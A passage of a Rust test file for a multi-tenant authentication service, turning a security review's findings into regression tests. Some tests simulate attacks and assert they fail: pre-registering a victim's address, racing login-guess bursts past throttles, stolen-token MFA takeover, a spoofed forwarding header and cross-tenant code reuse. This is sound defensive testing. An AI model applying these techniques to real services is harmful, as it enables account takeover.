//! The security review's findings, one named test each (issue 14): who may set a pending
//! account's password, template overrides that would carry a code away, hostile backups,
//! guesses racing past the throttles, a stolen token taking over MFA, clients behind a proxy,
//! one client starving the hashing pool, acting on more powerful members, and the smaller items.

use std::time::Duration;

use platform::store::entities::{email_code, session, user};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
use serde_json::{Value, json};

use crate::{
    accounts::{PASSWORD, get, lift_limits, post, send, set_setting, sign_up},
    helpers::{Db, TestApp, spawn_app, spawn_app_with},
    mailbox::{code_in, messages_to, wait_for},
    members::tenant_with_owner,
};

crate::both_backends!(
    a_registration_never_sets_the_password_of_someone_elses_pending_address,
    verification_is_for_pending_accounts_only,
    registration_costs_the_same_mail_for_taken_pending_and_new_addresses,
    a_burst_of_guesses_gets_no_more_checks_than_the_limits,
    a_burst_locks_the_account_for_the_first_step_only,
    a_stolen_access_token_cannot_take_over_mfa,
    behind_a_trusted_proxy_clients_are_told_apart,
    one_client_cannot_spend_the_hashing_pool_across_tenants,
    no_one_acts_on_a_member_more_powerful_than_themselves,
    passwordless_codes_share_the_stored_lockout,
    a_custom_role_offered_by_an_open_invitation_stays,
    a_code_row_copied_into_another_tenant_does_not_verify,
    an_audit_checkpoint_binds_its_tenant,
    a_refresh_token_reused_within_the_grace_gets_a_fresh_pair,
    template_overrides_cannot_carry_a_code_away,
    the_operators_log_is_hash_chained,
);

const ATTACKER: &str = "Attacker-Chosen-Phrase-1";

fn at(pair: &Value) -> &str {
    pair["access_token"].as_str().expect("access token")
}

async fn register(app: &TestApp, email: &str, password: &str) {
    let (st, body) = post(
        app,
        "/v1/tenants/acme/auth/register",
        json!({ "email": email, "password": password }),
        None,
    )
    .await;
    assert_eq!(st, 202, "{body}");
}

async fn login(app: &TestApp, email: &str, password: &str) -> (u16, Value) {
    post(
        app,
        "/v1/tenants/acme/auth/login",
        json!({ "email": email, "password": password }),
        None,
    )
    .await
}

async fn verify(app: &TestApp, email: &str, code: &str, password: Option<&str>) -> (u16, Value) {
    let mut body = json!({ "email": email, "code": code });
    if let Some(p) = password {
        body["password"] = json!(p);
    }
    post(app, "/v1/tenants/acme/auth/email/verify", body, None).await
}

/// The user row of `email` in acme.
async fn user_row(app: &TestApp, email: &str) -> user::Model {
    let scope = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = scope.read().await.expect("read");
    let u = user::Entity::find()
        .filter(user::Column::Email.eq(email))
        .one(&*tx)
        .await
        .expect("query")
        .expect("user");
    tx.commit().await.expect("commit");
    u
}

/// Moves the live codes of `email` back past the resend cooldown (the clock's seam: waiting a
/// real minute would slow the suite).
async fn age_codes(app: &TestApp, email: &str, secs: i64) {
    let scope = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = scope.begin().await.expect("begin");
    email_code::Entity::update_many()
        .col_expr(
            email_code::Column::CreatedAt,
            Expr::value(chrono::Utc::now() - chrono::Duration::seconds(secs)),
        )
        .filter(email_code::Column::Email.eq(email))
        .exec(&*tx)
        .await
        .expect("age codes");
    tx.commit().await.expect("commit");
}

/// Moves the codes of `email` past their expiry (and the resend cooldown).
async fn expire_codes(app: &TestApp, email: &str) {
    let scope = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = scope.begin().await.expect("begin");
    let past = chrono::Utc::now() - chrono::Duration::minutes(11);
    email_code::Entity::update_many()
        .col_expr(email_code::Column::CreatedAt, Expr::value(past))
        .col_expr(email_code::Column::ExpiresAt, Expr::value(past))
        .filter(email_code::Column::Email.eq(email))
        .exec(&*tx)
        .await
        .expect("expire codes");
    tx.commit().await.expect("commit");
}

/// Finding 1: the last anonymous registration decided a pending account's password. Now only
/// whoever holds the emailed code chooses it: registrations that disagree make the code set
/// none, and the verifier may send the password itself.
async fn a_registration_never_sets_the_password_of_someone_elses_pending_address(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    lift_limits(&app, "acme", &["register_ip"]).await;

    // The attacker registers first; the victim's registration falls in the resend cooldown, so
    // the only code in the victim's inbox is the one the attacker's registration sent.
    register(&app, "vic@acme.test", ATTACKER).await;
    let code = wait_for(&app, "vic@acme.test", 0, code_in).await;
    register(&app, "vic@acme.test", PASSWORD).await;
    let (st, pair) = verify(&app, "vic@acme.test", &code, None).await;
    assert_eq!(st, 200, "the mailbox's owner is signed in: {pair}");
    assert_eq!(pair["user"]["has_password"], false, "{pair}");
    assert_eq!(login(&app, "vic@acme.test", ATTACKER).await.0, 401);
    assert_eq!(login(&app, "vic@acme.test", PASSWORD).await.0, 401);
    // The owner sets a password from the fresh sign-in, without a current one.
    let (st, body) = post(
        &app,
        "/v1/tenants/acme/me/password",
        json!({ "new_password": PASSWORD }),
        Some(at(&pair)),
    )
    .await;
    assert_eq!(st, 204, "{body}");
    assert_eq!(login(&app, "vic@acme.test", PASSWORD).await.0, 200);
    assert_eq!(login(&app, "vic@acme.test", ATTACKER).await.0, 401);

    // The victim registers first; the attacker re-registers once the cooldown is over and a
    // new code goes out: the newest code sets no password either.
    register(&app, "wendy@acme.test", PASSWORD).await;
    wait_for(&app, "wendy@acme.test", 0, code_in).await;
    age_codes(&app, "wendy@acme.test", 61).await;
    register(&app, "wendy@acme.test", ATTACKER).await;
    let newest = wait_for(&app, "wendy@acme.test", 1, code_in).await;
    let (st, pair) = verify(&app, "wendy@acme.test", &newest, None).await;
    assert_eq!(st, 200, "{pair}");
    assert_eq!(pair["user"]["has_password"], false);
    assert_eq!(login(&app, "wendy@acme.test", ATTACKER).await.0, 401);

    // The victim registers and lets the code expire; the attacker registers afterwards and a
    // fresh code goes out: the account stays contested, so that code sets no password either.
    register(&app, "una@acme.test", PASSWORD).await;
    wait_for(&app, "una@acme.test", 0, code_in).await;
    expire_codes(&app, "una@acme.test").await;
    register(&app, "una@acme.test", ATTACKER).await;
    let fresh = wait_for(&app, "una@acme.test", 1, code_in).await;
    // Even a resend after more expiries keeps it so.
    expire_codes(&app, "una@acme.test").await;
    let (st, _) = post(
        &app,
        "/v1/tenants/acme/auth/email/resend",
        json!({ "email": "una@acme.test" }),
        None,
    )
    .await;
    assert_eq!(st, 202);
    let resent = wait_for(&app, "una@acme.test", 2, code_in).await;
    assert_ne!(fresh, resent);
    let (st, pair) = verify(&app, "una@acme.test", &resent, None).await;
    assert_eq!(st, 200, "{pair}");
    assert_eq!(pair["user"]["has_password"], false);
    assert_eq!(login(&app, "una@acme.test", ATTACKER).await.0, 401);

    // A contested code with the password sent at verification: the verifier's applies.
    register(&app, "xena@acme.test", ATTACKER).await;
    let code = wait_for(&app, "xena@acme.test", 0, code_in).await;
    register(&app, "xena@acme.test", PASSWORD).await;
    let (st, pair) = verify(&app, "xena@acme.test", &code, Some(PASSWORD)).await;
    assert_eq!(st, 200, "{pair}");
    assert_eq!(pair["user"]["has_password"], true);
    assert_eq!(login(&app, "xena@acme.test", PASSWORD).await.0, 200);
    assert_eq!(login(&app, "xena@acme.test", ATTACKER).await.0, 401);

    // One registrant, twice with the same password (a double click): nothing is contested.
    register(&app, "yuri@acme.test", PASSWORD).await;
    register(&app, "yuri@acme.test", PASSWORD).await;
    let code = wait_for(&app, "yuri@acme.test", 0, code_in).await;
    let (st, pair) = verify(&app, "yuri@acme.test", &code, None).await;
    assert_eq!(st, 200, "{pair}");
    assert_eq!(pair["user"]["has_password"], true);
    assert_eq!(login(&app, "yuri@acme.test", PASSWORD).await.0, 200);

    // An account with a password needs its current one to change it.
    let (st, _) = post(
        &app,
        "/v1/tenants/acme/me/password",
        json!({ "new_password": "Some-Other-Phrase-5" }),
        Some(at(&pair)),
    )
    .await;
    assert_eq!(st, 400);
    app.stop().await;
}

/// `verify` refused only disabled accounts: a code left over for an active account signed in
/// without changing anything, and could set a password. Now only pending accounts verify.
async fn verification_is_for_pending_accounts_only(db: Db) {
    let app = spawn_app(db).await;
    let t = app.tenant("acme").await;
    sign_up(&app, "acme", "zoe@acme.test").await;
    async fn plant_code(app: &TestApp, t: &platform::tenants::Tenant, email: &str) {
        let scope = app.state.tenants.scope(t);
        let tx = scope.begin().await.expect("begin");
        let now = chrono::Utc::now();
        email_code::Entity::insert(email_code::ActiveModel {
            id: sea_orm::ActiveValue::Set(uuid::Uuid::now_v7()),
            purpose: sea_orm::ActiveValue::Set("verify_email".into()),
            email: sea_orm::ActiveValue::Set(email.into()),
            code_hash: sea_orm::ActiveValue::Set(app.state.accounts.code_hasher.hash(
                t.id,
                "verify_email",
                email,
                "135790",
            )),
            attempts: sea_orm::ActiveValue::Set(0),
            expires_at: sea_orm::ActiveValue::Set(now + chrono::Duration::minutes(10)),
            created_at: sea_orm::ActiveValue::Set(now),
            password_hash: sea_orm::ActiveValue::Set(None),
        })
        .exec(&*tx)
        .await
        .expect("plant a code");
        tx.commit().await.expect("commit");
    }
    plant_code(&app, &t, "zoe@acme.test").await;
    let (st, body) = verify(&app, "zoe@acme.test", "135790", Some(ATTACKER)).await;
    assert_eq!(st, 400, "{body}");
    assert!(
        body["detail"]
            .as_str()
            .is_some_and(|d| d.contains("code is invalid")),
        "{body}"
    );
    assert_eq!(login(&app, "zoe@acme.test", ATTACKER).await.0, 401);
    assert_eq!(login(&app, "zoe@acme.test", PASSWORD).await.0, 200);
    app.stop().await;
}

/// Registration answers the same and sends exactly one email whatever the address's state: a
/// code to a new or pending address, an "account exists" notice to a taken one.
async fn registration_costs_the_same_mail_for_taken_pending_and_new_addresses(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    lift_limits(&app, "acme", &["register_ip"]).await;
    sign_up(&app, "acme", "taken@acme.test").await;
    register(&app, "pending@acme.test", PASSWORD).await;
    wait_for(&app, "pending@acme.test", 0, code_in).await;
    age_codes(&app, "pending@acme.test", 61).await;
    let before_taken = messages_to(&app, "taken@acme.test").len();
    let mut answers = Vec::new();
    for email in ["taken@acme.test", "pending@acme.test", "new@acme.test"] {
        let (st, mut body) = post(
            &app,
            "/v1/tenants/acme/auth/register",
            json!({ "email": email, "password": PASSWORD }),
            None,
        )
        .await;
        body.as_object_mut().map(|m| m.remove("request_id"));
        answers.push((st, body));
    }
    assert!(answers.windows(2).all(|w| w[0] == w[1]), "{answers:?}");
    let notice = wait_for(&app, "taken@acme.test", before_taken, |m| {
        m.contains("already has an account").then(|| m.to_owned())
    })
    .await;
    assert!(
        code_in(&notice).is_none(),
        "no code goes to a taken address"
    );
    wait_for(&app, "pending@acme.test", 1, code_in).await;
    wait_for(&app, "new@acme.test", 0, code_in).await;
    // A second attempt within the cooldown sends nothing more (as for a pending address).
    register(&app, "taken@acme.test", PASSWORD).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(messages_to(&app, "taken@acme.test").len(), before_taken + 1);
    assert_eq!(messages_to(&app, "pending@acme.test").len(), 2);
    assert_eq!(messages_to(&app, "new@acme.test").len(), 1);
    app.stop().await;
}

/// Fires `n` logins at once: `right` of them with the right password.
async fn burst(app: &TestApp, email: &str, n: usize, right: usize) -> Vec<u16> {
    let url = app.url("/v1/tenants/acme/auth/login");
    let tasks: Vec<_> = (0..n)
        .map(|i| {
            let (c, url) = (app.client.clone(), url.clone());
            let password = if i < right {
                PASSWORD
            } else {
                "Wrong-Password-1"
            };
            let body = json!({ "email": email, "password": password });
            tokio::spawn(async move {
                c.post(url)
                    .json(&body)
                    .send()
                    .await
                    .expect("answer")
                    .status()
                    .as_u16()
            })
        })
        .collect();
    let mut out = Vec::new();
    for t in tasks {
        out.push(t.await.expect("task"));
    }
    out
}

/// Finding 4: throttles and the lockout were checked before the hash and counted after it, so
/// every request in flight passed. Now each check reserves its failure first.
async fn a_burst_of_guesses_gets_no_more_checks_than_the_limits(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    sign_up(&app, "acme", "bob@acme.test").await;
    // 39 wrong and the right one at once: the account's in-memory allowance is 5 failures.
    // A success gives its cell back, so the right password may be one more check; the
    // wrong guesses checked are what the throttle bounds.
    let answers = burst(&app, "bob@acme.test", 40, 1).await;
    let wrong = answers.iter().filter(|s| **s == 401).count();
    let right = answers.iter().filter(|s| **s == 200).count();
    assert!(
        wrong <= 5 && right <= 1,
        "{wrong} wrong guesses passed the 5-failure throttle: {answers:?}"
    );
    assert!(
        answers.iter().all(|s| [200, 401, 429].contains(s)),
        "{answers:?}"
    );
    let u = user_row(&app, "bob@acme.test").await;
    assert!(u.failed_logins <= 5, "{}", u.failed_logins);
    app.stop().await;
}

/// A burst against the stored lockout alone (the tenant lifted its in-memory limits): exactly
/// ten failures are counted, the lock is the first step of 1, 2, 4 … minutes, and the burst's
/// other guesses were never checked.
async fn a_burst_locks_the_account_for_the_first_step_only(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    lift_limits(&app, "acme", &["login_ip", "login_account"]).await;
    sign_up(&app, "acme", "carl@acme.test").await;
    let answers = burst(&app, "carl@acme.test", 16, 0).await;
    assert!(answers.iter().all(|s| *s == 401), "{answers:?}");
    let u = user_row(&app, "carl@acme.test").await;
    assert_eq!(u.failed_logins, 10, "only ten guesses were checked");
    let left = u.locked_until.expect("locked") - chrono::Utc::now();
    assert!(
        left <= chrono::Duration::seconds(61) && left > chrono::Duration::seconds(30),
        "a first lock lasts a minute, not {left}"
    );
    // The right password is refused while locked, like a wrong one.
    let (st, body) = login(&app, "carl@acme.test", PASSWORD).await;
    assert_eq!(
        (st, body["code"].as_str()),
        (401, Some("invalid_credentials"))
    );
    app.stop().await;
}

/// Moves session `sid`'s sign-in back by `secs`.
async fn age_session(app: &TestApp, sid: &str, secs: i64) {
    let scope = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = scope.begin().await.expect("begin");
    session::Entity::update_many()
        .col_expr(
            session::Column::CreatedAt,
            Expr::value(chrono::Utc::now() - chrono::Duration::seconds(secs)),
        )
        .filter(session::Column::Id.eq(uuid::Uuid::parse_str(sid).expect("sid")))
        .exec(&*tx)
        .await
        .expect("age session");
    tx.commit().await.expect("commit");
}

fn now() -> u64 {
    u64::try_from(chrono::Utc::now().timestamp()).expect("after 1970")
}

/// Finding 5: an access token alone enrolled its holder's authenticator, which revoked the
/// owner's sessions. Enrolling, disabling and new backup codes now need the password or a
/// sign-in within 5 minutes; an enrolment-only token still enrols.
async fn a_stolen_access_token_cannot_take_over_mfa(db: Db) {
    use platform::crypto::totp::TotpSecret;
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    let pair = sign_up(&app, "acme", "dora@acme.test").await;
    let token = at(&pair);
    let sid = pair["session_id"].as_str().expect("sid");
    age_session(&app, sid, 600).await;
    let enrol = "/v1/tenants/acme/me/mfa/totp";
    let (st, body) = post(&app, enrol, json!({}), Some(token)).await;
    assert_eq!(
        (st, body["code"].as_str()),
        (403, Some("reauthentication_required")),
        "{body}"
    );
    // No body at all is the same.
    let r = app
        .client
        .post(app.url(enrol))
        .bearer_auth(token)
        .send()
        .await
        .expect("answer");
    assert_eq!(r.status(), 403);
    let (st, _) = post(
        &app,
        enrol,
        json!({ "current_password": "Wrong-Password-1" }),
        Some(token),
    )
    .await;
    assert_eq!(st, 401);
    let (st, en) = post(
        &app,
        enrol,
        json!({ "current_password": PASSWORD }),
        Some(token),
    )
    .await;
    assert_eq!(st, 200, "{en}");
    let secret = TotpSecret::from_base32(en["secret"].as_str().expect("secret")).expect("secret");
    let (st, cf) = post(
        &app,
        "/v1/tenants/acme/me/mfa/totp/confirm",
        json!({ "code": secret.code_at(now() - 30) }),
        Some(token),
    )
    .await;
    assert_eq!(st, 200, "{cf}");
    // New backup codes and turning MFA off from the stale session need the password too.
    let (st, body) = post(
        &app,
        "/v1/tenants/acme/me/mfa/backup-codes",
        json!({ "code": secret.code_at(now()) }),
        Some(token),
    )
    .await;
    assert_eq!(
        (st, body["code"].as_str()),
        (403, Some("reauthentication_required"))
    );
    let (st, _) = post(
        &app,
        "/v1/tenants/acme/me/mfa/backup-codes",
        json!({ "code": secret.code_at(now()), "current_password": PASSWORD }),
        Some(token),
    )
    .await;
    assert_eq!(st, 200);
    let (st, body) = send(
        &app,
        reqwest::Method::DELETE,
        enrol,
        Some(json!({ "code": secret.code_at(now() + 30) })),
        token,
    )
    .await;
    assert_eq!(
        (st, body["code"].as_str()),
        (403, Some("reauthentication_required"))
    );
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        enrol,
        Some(json!({ "password": PASSWORD })),
        token,
    )
    .await;
    assert_eq!(st, 204);

    // An enrolment-only token (the tenant requires MFA) enrols without more for half an hour
    // after its sign-in; past that (a refresh token stolen before the policy), it needs the
    // password too.
    set_setting(&app, "acme", "mfa_policy", r#""required""#).await;
    let (st, lg) = login(&app, "dora@acme.test", PASSWORD).await;
    assert_eq!(st, 200, "{lg}");
    assert_eq!(lg["mfa_enrollment_required"], true);
    let sid = lg["session_id"].as_str().expect("sid");
    age_session(&app, sid, 600).await;
    let (st, en) = post(&app, enrol, json!({}), Some(at(&lg))).await;
    assert_eq!(st, 200, "{en}");
    age_session(&app, sid, 2000).await;
    let (st, body) = post(&app, enrol, json!({}), Some(at(&lg))).await;
    assert_eq!(
        (st, body["code"].as_str()),
        (403, Some("reauthentication_required"))
    );
    let (st, _) = post(
        &app,
        enrol,
        json!({ "current_password": PASSWORD }),
        Some(at(&lg)),
    )
    .await;
    assert_eq!(st, 200);
    app.stop().await;
}

/// Finding 6: behind a balancer every client had the balancer's address, so eleven failures by
/// anyone blocked everyone. With `trusted_proxies`, the forwarded client is throttled and
/// audited; without it, forwarding headers are ignored.
async fn behind_a_trusted_proxy_clients_are_told_apart(db: Db) {
    async fn fail_from(app: &TestApp, xff: &str, n: usize) -> Vec<u16> {
        let mut out = Vec::new();
        for i in 0..n {
            let r = app
                .client
                .post(app.url("/v1/tenants/acme/auth/login"))
                .header("x-forwarded-for", xff)
                .json(&json!({ "email": format!("nobody{i}@acme.test"), "password": "Wrong-Password-1" }))
                .send()
                .await
                .expect("answer");
            out.push(r.status().as_u16());
        }
        out
    }
    async fn login_from(app: &TestApp, xff: &str) -> u16 {
        app.client
            .post(app.url("/v1/tenants/acme/auth/login"))
            .header("x-forwarded-for", format!("1.2.3.4, {xff}"))
            .json(&json!({ "email": "eve@acme.test", "password": PASSWORD }))
            .send()
            .await
            .expect("answer")
            .status()
            .as_u16()
    }
    // Behind a trusted proxy (the test client on loopback plays it).
    let app = spawn_app_with(db, &[("trusted_proxies", "127.0.0.1/32, ::1/128")]).await;
    app.tenant("acme").await;
    sign_up(&app, "acme", "eve@acme.test").await;
    let answers = fail_from(&app, "203.0.113.66", 12).await;
    assert_eq!(
        answers.last(),
        Some(&429),
        "the attacker's address is throttled: {answers:?}"
    );
    assert_eq!(
        login_from(&app, "203.0.113.7").await,
        200,
        "another client is not"
    );
    // The audit log names the forwarded client, not the proxy.
    let scope = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = scope.read().await.expect("read");
    let ips: Vec<Option<String>> = platform::store::entities::audit_event::Entity::find()
        .filter(platform::store::entities::audit_event::Column::Action.eq("auth.login"))
        .all(&*tx)
        .await
        .expect("events")
        .into_iter()
        .map(|e| e.ip)
        .collect();
    tx.commit().await.expect("commit");
    assert!(ips.contains(&Some("203.0.113.66".into())), "{ips:?}");
    assert!(ips.contains(&Some("203.0.113.7".into())), "{ips:?}");
    assert!(
        !ips.contains(&Some("1.2.3.4".into())),
        "a client-written hop is not trusted"
    );
    app.stop().await;

    // Without trusted proxies, the header is the client's word and ignored.
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    sign_up(&app, "acme", "eve@acme.test").await;
    let answers = fail_from(&app, "203.0.113.66", 12).await;
    assert_eq!(answers.last(), Some(&429), "{answers:?}");
    assert_eq!(
        login_from(&app, "203.0.113.7").await,
        429,
        "without trusted proxies both are the one loopback client"
    );
    app.stop().await;
}

/// Finding 7: per-IP limits were per tenant while the argon2 pool is shared; one address
/// spreading failures over 30 tenants got 267 hashes. A platform-wide per-IP budget bounds it.
async fn one_client_cannot_spend_the_hashing_pool_across_tenants(db: Db) {
    let app = spawn_app_with(
        db,
        &[
            ("password_checks_per_ip_per_minute", "1"),
            ("password_checks_per_ip_burst", "4"),
        ],
    )
    .await;
    for t in ["t-one", "t-two", "t-three", "t-four", "t-five"] {
        app.tenant(t).await;
    }
    let mut answers = Vec::new();
    for t in ["t-one", "t-two", "t-three", "t-four", "t-five"] {
        let (st, _) = post(
            &app,
            &format!("/v1/tenants/{t}/auth/login"),
            json!({ "email": "x@y.test", "password": "Wrong-Password-1" }),
            None,
        )
        .await;
        answers.push(st);
    }
    assert_eq!(
        answers,
        [401, 401, 401, 401, 429],
        "4 hashes, then the budget is spent"
    );
    // Sign-ups spend it too.
    let (st, body) = post(
        &app,
        "/v1/tenants/t-five/auth/register",
        json!({ "email": "x@y.test", "password": PASSWORD }),
        None,
    )
    .await;
    assert_eq!((st, body["code"].as_str()), (429, Some("rate_limited")));
    app.stop().await;
}

/// Finding 8: a `members:write` custom role revoked an owner's invitation and a
/// `sessions:revoke` one ended every session of the owner.
async fn no_one_acts_on_a_member_more_powerful_than_themselves(db: Db) {
    let app = spawn_app(db).await;
    let owner = tenant_with_owner(&app, "acme", "olga@acme.test").await;
    let ot = at(&owner);
    let (st, body) = send(
        &app,
        reqwest::Method::PATCH,
        "/v1/tenants/acme/settings",
        Some(json!({ "custom_roles": {
            "inviter": ["members:read", "members:write"],
            "bouncer": ["members:read", "sessions:read", "sessions:revoke"],
        }})),
        ot,
    )
    .await;
    assert_eq!(st, 200, "{body}");
    let (st, inv) = post(
        &app,
        "/v1/tenants/acme/members/invitations",
        json!({ "email": "co-owner@acme.test", "role": "owner" }),
        Some(ot),
    )
    .await;
    assert_eq!(st, 201, "{inv}");
    let mut staff = Vec::new();
    for (email, role) in [("ian@acme.test", "inviter"), ("bea@acme.test", "bouncer")] {
        let before = messages_to(&app, email).len();
        let (st, body) = post(
            &app,
            "/v1/tenants/acme/members/invitations",
            json!({ "email": email, "role": role }),
            Some(ot),
        )
        .await;
        assert_eq!(st, 201, "{body}");
        let token = wait_for(&app, email, before, crate::mailbox::token_in).await;
        let (st, pair) = post(
            &app,
            "/v1/tenants/acme/auth/invitations/accept",
            json!({ "token": token, "password": PASSWORD }),
            None,
        )
        .await;
        assert_eq!(st, 200, "{pair}");
        staff.push(pair);
    }
    let (inviter, bouncer) = (at(&staff[0]), at(&staff[1]));
    let inv_id = inv["id"].as_str().expect("id");
    let (st, body) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/members/invitations/{inv_id}"),
        None,
        inviter,
    )
    .await;
    assert_eq!(
        (st, body["code"].as_str()),
        (403, Some("forbidden")),
        "{body}"
    );
    let owner_id = owner["user"]["id"].as_str().expect("owner id");
    let owner_sid = owner["session_id"].as_str().expect("sid");
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/sessions/{owner_sid}"),
        None,
        bouncer,
    )
    .await;
    assert_eq!(st, 403);
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/members/{owner_id}/sessions"),
        None,
        bouncer,
    )
    .await;
    assert_eq!(st, 403);
    assert_eq!(
        get(&app, "/v1/tenants/acme/me", Some(ot)).await.0,
        200,
        "the owner is still in"
    );
    // Their equals and their own sessions remain theirs to manage.
    let ian_sid = staff[0]["session_id"].as_str().expect("sid");
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/sessions/{ian_sid}"),
        None,
        bouncer,
    )
    .await;
    assert_eq!(
        st, 403,
        "an inviter holds members:write, which a bouncer lacks"
    );
    let bea_id = staff[1]["user"]["id"].as_str().expect("id");
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/members/{bea_id}/sessions"),
        None,
        bouncer,
    )
    .await;
    assert_eq!(st, 200);
    // The owner may do all of it.
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/members/invitations/{inv_id}"),
        None,
        ot,
    )
    .await;
    assert_eq!(st, 204);
    app.stop().await;
}

/// Passwordless codes had only their per-code attempts and the in-memory throttle (about five
/// guesses a minute, forever); they now count in the account's stored lockout.
async fn passwordless_codes_share_the_stored_lockout(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    lift_limits(
        &app,
        "acme",
        &["otp_ip", "code_verify_account", "code_send_account"],
    )
    .await;
    sign_up(&app, "acme", "fay@acme.test").await;
    let mut guesses = 0;
    while guesses < 10 {
        let before = messages_to(&app, "fay@acme.test").len();
        age_codes(&app, "fay@acme.test", 61).await;
        let (st, _) = post(
            &app,
            "/v1/tenants/acme/auth/otp/send",
            json!({ "email": "fay@acme.test" }),
            None,
        )
        .await;
        assert_eq!(st, 202);
        let code = wait_for(&app, "fay@acme.test", before, code_in).await;
        let wrong = format!(
            "{:06}",
            (code.parse::<u32>().expect("digits") + 1) % 1_000_000
        );
        for _ in 0..2 {
            let (st, _) = post(
                &app,
                "/v1/tenants/acme/auth/otp/verify",
                json!({ "email": "fay@acme.test", "code": wrong }),
                None,
            )
            .await;
            assert_eq!(st, 400);
            guesses += 1;
        }
    }
    assert_eq!(user_row(&app, "fay@acme.test").await.failed_logins, 10);
    // Locked: even the right code of a fresh message is refused, as is the password.
    let before = messages_to(&app, "fay@acme.test").len();
    age_codes(&app, "fay@acme.test", 61).await;
    post(
        &app,
        "/v1/tenants/acme/auth/otp/send",
        json!({ "email": "fay@acme.test" }),
        None,
    )
    .await;
    let code = wait_for(&app, "fay@acme.test", before, code_in).await;
    let (st, _) = post(
        &app,
        "/v1/tenants/acme/auth/otp/verify",
        json!({ "email": "fay@acme.test", "code": code }),
        None,
    )
    .await;
    assert_eq!(st, 400);
    assert_eq!(login(&app, "fay@acme.test", PASSWORD).await.0, 401);
    app.stop().await;
}

/// Removing a custom role checked members only: an open invitation still handed it out.
async fn a_custom_role_offered_by_an_open_invitation_stays(db: Db) {
    let app = spawn_app(db).await;
    let owner = tenant_with_owner(&app, "acme", "olga@acme.test").await;
    let ot = at(&owner);
    let settings = "/v1/tenants/acme/settings";
    let (st, _) = send(
        &app,
        reqwest::Method::PATCH,
        settings,
        Some(json!({ "custom_roles": { "auditor": ["audit:read"] } })),
        ot,
    )
    .await;
    assert_eq!(st, 200);
    let (st, inv) = post(
        &app,
        "/v1/tenants/acme/members/invitations",
        json!({ "email": "aud@acme.test", "role": "auditor" }),
        Some(ot),
    )
    .await;
    assert_eq!(st, 201);
    let (st, body) = send(
        &app,
        reqwest::Method::PATCH,
        settings,
        Some(json!({ "custom_roles": null })),
        ot,
    )
    .await;
    assert_eq!(
        (st, body["code"].as_str()),
        (409, Some("role_in_use")),
        "{body}"
    );
    let id = inv["id"].as_str().expect("id");
    let (st, _) = send(
        &app,
        reqwest::Method::DELETE,
        &format!("/v1/tenants/acme/members/invitations/{id}"),
        None,
        ot,
    )
    .await;
    assert_eq!(st, 204);
    let (st, _) = send(
        &app,
        reqwest::Method::PATCH,
        settings,
        Some(json!({ "custom_roles": null })),
        ot,
    )
    .await;
    assert_eq!(st, 200);
    app.stop().await;
}

/// One-time-code hashes bind the tenant: a code row copied from one tenant's store into
/// another's (same address) does not verify there.
async fn a_code_row_copied_into_another_tenant_does_not_verify(db: Db) {
    let app = spawn_app(db).await;
    app.tenant("acme").await;
    let globex = app.tenant("globex").await;
    register(&app, "gil@acme.test", PASSWORD).await;
    let code = wait_for(&app, "gil@acme.test", 0, code_in).await;
    let (st, _) = post(
        &app,
        "/v1/tenants/globex/auth/register",
        json!({ "email": "gil@acme.test", "password": PASSWORD }),
        None,
    )
    .await;
    assert_eq!(st, 202);
    wait_for(&app, "gil@acme.test", 1, code_in).await;
    let acme = app.state.tenants.resolve("acme").await.expect("scope");
    let tx = acme.read().await.expect("read");
    let row = email_code::Entity::find()
        .filter(email_code::Column::Email.eq("gil@acme.test"))
        .one(&*tx)
        .await
        .expect("query")
        .expect("row");
    tx.commit().await.expect("commit");
    let tx = app
        .state
        .tenants
        .scope(&globex)
        .begin()
        .await
        .expect("begin");
    email_code::Entity::update_many()
        .col_expr(email_code::Column::CodeHash, Expr::value(row.code_hash))
        .filter(email_code::Column::Email.eq("gil@acme.test"))
        .exec(&*tx)
        .await
        .expect("copy the hash");
    tx.commit().await.expect("commit");
    let (st, _) = post(
        &app,
        "/v1/tenants/globex/auth/email/verify",
        json!({ "email": "gil@acme.test", "code": code }),
        None,
    )
    .await;
    assert_eq!(st, 400, "acme's code does not open globex");
    let (st, _) = verify(&app, "gil@acme.test", &code, None).await;
    assert_eq!(st, 200, "it still opens acme");
    app.stop().await;
}

/// Slugs that read as a UUID name two tenants (paths take a slug or an id): refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slug_that_reads_as_a_uuid_is_refused() {
    let app = spawn_app(Db::Sqlite).await;
    let (admin, _) = crate::operators::operator(&app, "root@ops.test", "admin").await;
    for slug in [
        "123e4567-e89b-12d3-a456-426614174000",
        "123e4567e89b12d3a456426614174000",
    ] {
        let (st, body) = post(
            &app,
            "/v1/admin/tenants",
            json!({ "slug": slug, "name": "Ambiguous" }),
            Some(at(&admin)),
        )
        .await;
        assert_eq!(
            (st, body["code"].as_str()),
            (400, Some("invalid_request")),
            "{body}"
        );
    }
    app.stop().await;
}

/// A cookie-mode refresh with no body at all (as documented) was `415`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cookie_refresh_needs_no_body() {
    let app = spawn_app(Db::Sqlite).await;
    app.tenant("acme").await;
    sign_up(&app, "acme", "kim@acme.test").await;
    let r = app
        .client
        .post(app.url("/v1/tenants/acme/auth/login"))
